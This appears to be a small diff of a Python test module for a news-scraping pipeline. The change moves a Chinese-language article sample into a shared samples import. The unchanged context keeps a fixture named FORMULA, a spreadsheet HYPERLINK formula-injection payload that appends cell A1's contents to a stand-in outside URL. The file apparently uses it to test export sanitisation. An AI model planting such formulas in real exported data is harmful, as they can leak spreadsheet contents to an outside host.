@@ -26,10 +26,9 @@ from pipelines.stores.evidence import Evidence
 from pipelines.stores.library import Range
 from pipelines.stores.rows import Rows
 from tests.feeds.town import HOSTILE, address, gone, told
-from tests.samples import NOON, PORTAL, article, capture
+from tests.samples import EDIT, NOON, PORTAL, article, capture
 
 OTHER = replace(PORTAL, name="test_qingjiang", title="清江新闻网", home="https://www.qingjiang.example/")
-EDIT = ("本报讯 云岭县图书馆新馆20日上午开放，首日接待读者1350人次。", *article().paragraphs[1:])
 FORMULA = '=HYPERLINK("https://x.example?"&A1,"看")'
 NOW = datetime(2026, 11, 21, tzinfo=UTC)
 ROOT = Path(__file__).parents[2]
